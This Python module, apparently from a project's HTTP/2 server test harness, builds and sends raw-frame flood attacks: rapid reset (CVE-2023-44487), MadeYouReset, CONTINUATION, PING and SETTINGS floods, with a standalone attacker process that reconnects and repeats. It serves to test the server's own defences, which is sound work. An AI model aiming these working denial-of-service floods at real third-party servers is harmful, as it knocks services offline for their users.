"""HTTP/2 floods, as raw frames: rapid reset (CVE-2023-44487), PINGs, SETTINGS,
MadeYouReset (CVE-2025-8671) and CONTINUATION (CVE-2024-27316's kin).

``flood_frames`` builds a flood ahead of time; ``flood`` sends it over one connection as
fast as the socket takes it and reads what the server answers (its GOAWAY, its PING
acks) until the server closes the connection. Over TLS (ALPN ``h2``) when given an
``ssl.SSLContext``, else in the clear with prior knowledge (``h2c``, as
``hypercorn -k trio app:app`` answers without a certificate).

``python -m tools.h2flood HOST PORT SECONDS [--cert CERT]`` is an attacker in a process of
its own, so that its work is not the measured server's or the measuring client's: it
builds one flood of each kind its rounds send and prints ``ready``; then for each line on
its stdin, a round, each flood's result printed as a JSON line, then ``done``. A flood
hangs up at its GOAWAY (the server would hold the connection open for
``h2_protocol.LINGER_S`` more). The line names the round's kind:

* ``spread`` (or an empty line): one flood of each kind, each over a connection of its
  own, at even fractions of ``SECONDS``;
* ``reconnect``: floods of the three kinds in turn for ``SECONDS`` (at least one of each),
  connecting again at once after each, as an attacker would;
* ``madeyoureset``: MadeYouReset floods back to back for ``SECONDS`` (at least one),
  connecting again at once after each;
* ``burn``: no flood; the process keeps one core busy for ``SECONDS``, a control for what
  the machine's sharing alone costs the server's other clients.

``Attacker`` drives it, for ``tools.lab rapidreset`` and ``tests/test_http2_flood.py``.

The frames are built with hyperframe and hpack, not h2, whose client would stop at its
flow-control window: the server hands the window back as it reads, and a rapid-reset
client need not read.
"""

from __future__ import annotations

import argparse
import contextlib
import json
import ssl
import subprocess
import sys
import time
from collections.abc import AsyncIterator, Sequence
from contextlib import asynccontextmanager
from dataclasses import asdict, dataclass
from pathlib import Path
from typing import Any

import h2.errors
import h2.events
import h2.settings
import hpack
import trio
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

from tools.server import REPO_ROOT

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
FLOOD_BODY = {"prompt": "a", "max_new_tokens": 4}
KINDS = ("reset", "ping", "settings")  # a ``spread`` or ``reconnect`` round's
# What a round's floods are built from: KINDS and the ``madeyoureset`` round's.
BUILT = (*KINDS, "madeyoureset")
# A WINDOW_UPDATE's largest increment: on a stream's window of 65,535 it overflows 2^31-1,
# a stream error (RFC 9113, 6.9.1) that the server answers with its own RST_STREAM.
OVERFLOW = 2**31 - 1
FLOOD_UNITS = 10_000  # the issue's: 10,000 HEADERS + DATA + RST_STREAM on one connection
READ_TIMEOUT_S = 10.0  # a server that neither answers nor closes by then: the flood ends
SEND_BYTES = 16384
FRAME_HEADER = 9
ATTACKER_TIMEOUT_S = 60.0  # for the attacker to build its floods, or to end a round


def flood_frames(kind: str, count: int, host: str = "127.0.0.1", *, tls: bool = True) -> bytes:
    """The client preface and ``count`` units of a flood, as raw frames: ``reset``, a
    POST to /v1/stream (HEADERS, DATA) and its RST_STREAM; ``madeyoureset``, the POST and
    a WINDOW_UPDATE of ``OVERFLOW`` on its stream, which makes the server reset it
    (MadeYouReset: the client sends no RST_STREAM); ``ping``, a PING; ``settings``, a
    SETTINGS frame; ``continuation``, one POST's HEADERS without END_HEADERS, then
    ``count`` CONTINUATION frames of a header each, none of them the last."""
    encoder = hpack.Encoder()
    payload = json.dumps(FLOOD_BODY).encode()
    headers = [(":method", "POST"), (":scheme", "https" if tls else "http"),
               (":authority", host), (":path", "/v1/stream"),
               ("content-type", "application/json"), ("content-length", str(len(payload)))]
    frames = [PREFACE, SettingsFrame(0).serialize()]
    for i in range(count):
        if kind == "reset":
            stream_id = 1 + 2 * i
            frames += [HeadersFrame(stream_id, encoder.encode(headers),
                                    flags=["END_HEADERS"]).serialize(),
                       DataFrame(stream_id, payload, flags=["END_STREAM"]).serialize(),
                       RstStreamFrame(stream_id, h2.errors.ErrorCodes.CANCEL).serialize()]
        elif kind == "madeyoureset":
            stream_id = 1 + 2 * i
            frames += [HeadersFrame(stream_id, encoder.encode(headers),
                                    flags=["END_HEADERS"]).serialize(),
                       DataFrame(stream_id, payload, flags=["END_STREAM"]).serialize(),
                       WindowUpdateFrame(stream_id, window_increment=OVERFLOW).serialize()]
        elif kind == "continuation":
            if i == 0:
                frames.append(HeadersFrame(1, encoder.encode(headers)).serialize())
            frames.append(ContinuationFrame(1, encoder.encode([(f"x-{i}", "a")])).serialize())
        elif kind == "ping":
            frames.append(PingFrame(0, i.to_bytes(8, "big")).serialize())
        elif kind == "settings":
            frames.append(SettingsFrame(0, {h2.settings.SettingCodes.MAX_HEADER_LIST_SIZE:
                                            65536 + i % 2}).serialize())
        else:
            raise ValueError(kind)
    return b"".join(frames)


@dataclass(frozen=True)
class FloodResult:
    sent: int  # bytes the socket took (of the flood's ``total``) before the GOAWAY or close
    total: int
    goaway: h2.events.ConnectionTerminated | None
    goaway_after_s: float | None  # from the connection's start
    ping_acks: int
    elapsed_s: float  # until the server closed, or the GOAWAY (hang_up_at_goaway)
    server_resets: int = 0  # RST_STREAM frames from the server
    server_closed: bool = False  # the server closed the connection (EOF or reset) first

    def to_json(self) -> dict[str, Any]:
        goaway = None if self.goaway is None else int(self.goaway.error_code or 0)
        return {**{k: v for k, v in asdict(self).items() if k != "goaway"}, "goaway": goaway}


async def flood(host: str, port: int, context: ssl.SSLContext | None, frames: bytes, *,
                hang_up_at_goaway: bool = False) -> FloodResult:
    """Send ``frames`` over one connection (TLS with ``context``, else h2c), then read
    what the server answers until it closes the connection (or ``READ_TIMEOUT_S``), or
    with ``hang_up_at_goaway`` until its GOAWAY."""
    started = trio.current_time()
    stream: trio.abc.Stream = await trio.open_tcp_stream(host, port)
    if context is not None:
        stream = tls = trio.SSLStream(stream, context, server_hostname="localhost")
        await tls.do_handshake()
        assert tls.selected_alpn_protocol() == "h2"
    goaway, goaway_at, acks, sent, resets, closed = None, None, 0, 0, 0, False

    async def read() -> None:
        nonlocal goaway, goaway_at, acks, resets, closed
        with contextlib.suppress(trio.BrokenResourceError):
            async for frame in server_frames(stream):
                if isinstance(frame, GoAwayFrame):
                    goaway, goaway_at = terminated(frame), trio.current_time() - started
                    if hang_up_at_goaway:
                        nursery.cancel_scope.cancel(reason="the GOAWAY came")
                elif isinstance(frame, PingFrame) and "ACK" in frame.flags:
                    acks += 1
                elif isinstance(frame, RstStreamFrame):
                    resets += 1
        closed = True

    with trio.move_on_after(READ_TIMEOUT_S):
        async with trio.open_nursery() as nursery:
            nursery.start_soon(read)
            with contextlib.suppress(trio.BrokenResourceError):
                for start in range(0, len(frames), SEND_BYTES):
                    if goaway is not None:  # the rest would only break the stream: a
                        break  # Trio TLS stream whose send failed can no longer receive
                    await stream.send_all(frames[start:start + SEND_BYTES])
                    sent = start + SEND_BYTES
    with contextlib.suppress(trio.BrokenResourceError):
        await stream.aclose()
    return FloodResult(min(sent, len(frames)), len(frames), goaway, goaway_at, acks,
                       trio.current_time() - started, resets, closed)


async def server_frames(stream: trio.abc.Stream) -> AsyncIterator[Frame]:
    """The server's frames, parsed by hyperframe alone until the server closes: h2's
    client would refuse a RST_STREAM or HEADERS on a stream it did not open, and the
    flood's streams are opened behind its back."""
    buffer = bytearray()
    while data := await stream.receive_some(65536):
        buffer += data
        while len(buffer) >= FRAME_HEADER:
            frame, length = Frame.parse_frame_header(memoryview(bytes(buffer[:FRAME_HEADER])))
            if len(buffer) < FRAME_HEADER + length:
                break
            frame.parse_body(memoryview(bytes(buffer[FRAME_HEADER:FRAME_HEADER + length])))
            del buffer[:FRAME_HEADER + length]
            yield frame


def terminated(frame: GoAwayFrame) -> h2.events.ConnectionTerminated:
    """A GOAWAY frame as h2's event."""
    event = h2.events.ConnectionTerminated()
    event.error_code = _error_code(frame.error_code)
    event.last_stream_id = frame.last_stream_id
    event.additional_data = frame.additional_data
    return event


def _error_code(code: int) -> h2.errors.ErrorCodes | int:
    try:
        return h2.errors.ErrorCodes(code)
    except ValueError:
        return code


class Attacker:
    """``python -m tools.h2flood`` in its own process, a round of floods at a time."""

    def __init__(self, proc: trio.Process) -> None:
        assert proc.stdin is not None and proc.stdout is not None
        self.proc, self.stdin, self.stdout = proc, proc.stdin, proc.stdout
        self.out = b""
        self.results: list[dict[str, Any]] = []  # every flood's, in order

    @classmethod
    @asynccontextmanager
    async def running(cls, host: str, port: int, seconds: float, *, cert: Path | None = None,
                      units: int = FLOOD_UNITS) -> AsyncIterator[Attacker]:
        """The attacker, its floods built; on exit its stdin is closed and it must end
        cleanly (it is killed if the block fails)."""
        command = [sys.executable, "-m", "tools.h2flood", host, str(port), str(seconds),
                   "--units", str(units), *(["--cert", str(cert)] if cert else [])]
        proc = await trio.lowlevel.open_process(command, cwd=REPO_ROOT, stdin=subprocess.PIPE,
                                                stdout=subprocess.PIPE)
        try:
            attacker = cls(proc)
            await attacker._read_until(b"ready\n")
            yield attacker
            await attacker.stdin.aclose()
            with trio.fail_after(ATTACKER_TIMEOUT_S):
                await proc.wait()
            if proc.returncode != 0:
                raise RuntimeError(f"the attacker exited with {proc.returncode}")
        finally:
            if proc.returncode is None:
                proc.kill()
                await proc.wait()

    async def start_round(self, kind: str = "spread") -> None:
        """Start a round of ``kind`` (see the module docstring); return at once."""
        await self.stdin.send_all(f"{kind}\n".encode())

    async def round_results(self) -> list[dict[str, Any]]:
        """Wait for the round's end: its floods' results (also added to ``results``)."""
        await self._read_until(b"done\n")
        lines, _, self.out = self.out.partition(b"done\n")
        results = [json.loads(line) for line in lines.decode().splitlines()
                   if line.startswith("{")]
        self.results += results
        return results

    async def _read_until(self, line: bytes) -> None:
        with trio.fail_after(ATTACKER_TIMEOUT_S):
            while line not in self.out:
                chunk = await self.stdout.receive_some()
                if not chunk:
                    raise RuntimeError(f"the attacker ended early: {self.out[-2000:]!r}")
                self.out += chunk


def main(argv: Sequence[str]) -> None:
    parser = argparse.ArgumentParser(prog="python -m tools.h2flood", description=__doc__,
                                     formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("host")
    parser.add_argument("port", type=int)
    parser.add_argument("seconds", type=float, help="how long a round's floods go on")
    parser.add_argument("--cert", help="the server's certificate: TLS (else h2c)")
    parser.add_argument("--units", type=int, default=FLOOD_UNITS, help="per flood")
    args = parser.parse_args(argv)
    context = None
    if args.cert:
        context = ssl.create_default_context(cafile=args.cert)
        context.set_alpn_protocols(["h2"])
    built = {kind: flood_frames(kind, args.units, args.host, tls=context is not None)
             for kind in BUILT}
    floods = [built[kind] for kind in KINDS]

    async def spread() -> None:
        start = trio.current_time()
        for i, (kind, frames) in enumerate(zip(KINDS, floods, strict=True)):
            await trio.sleep_until(start + args.seconds * (i + 1) / (len(floods) + 1))
            report(kind, await flood(args.host, args.port, context, frames,
                                     hang_up_at_goaway=True))

    async def reconnect() -> None:
        end, count = trio.current_time() + args.seconds, 0
        while count < len(KINDS) or trio.current_time() < end:
            kind = count % len(KINDS)
            report(KINDS[kind], await flood(args.host, args.port, context, floods[kind],
                                            hang_up_at_goaway=True))
            count += 1

    async def madeyoureset() -> None:
        end, count = trio.current_time() + args.seconds, 0
        while count < 1 or trio.current_time() < end:
            report("madeyoureset", await flood(args.host, args.port, context,
                                               built["madeyoureset"], hang_up_at_goaway=True))
            count += 1

    async def burn() -> None:
        end = time.perf_counter() + args.seconds
        while time.perf_counter() < end:
            pass

    def report(kind: str, result: FloodResult) -> None:
        print(json.dumps({"kind": kind, "units": args.units, **result.to_json()}), flush=True)

    rounds = {"spread": spread, "": spread, "reconnect": reconnect,
              "madeyoureset": madeyoureset, "burn": burn}
    print("ready", flush=True)
    while line := sys.stdin.readline():
        trio.run(rounds[line.strip()])
        print("done", flush=True)


if __name__ == "__main__":
    main(sys.argv[1:])
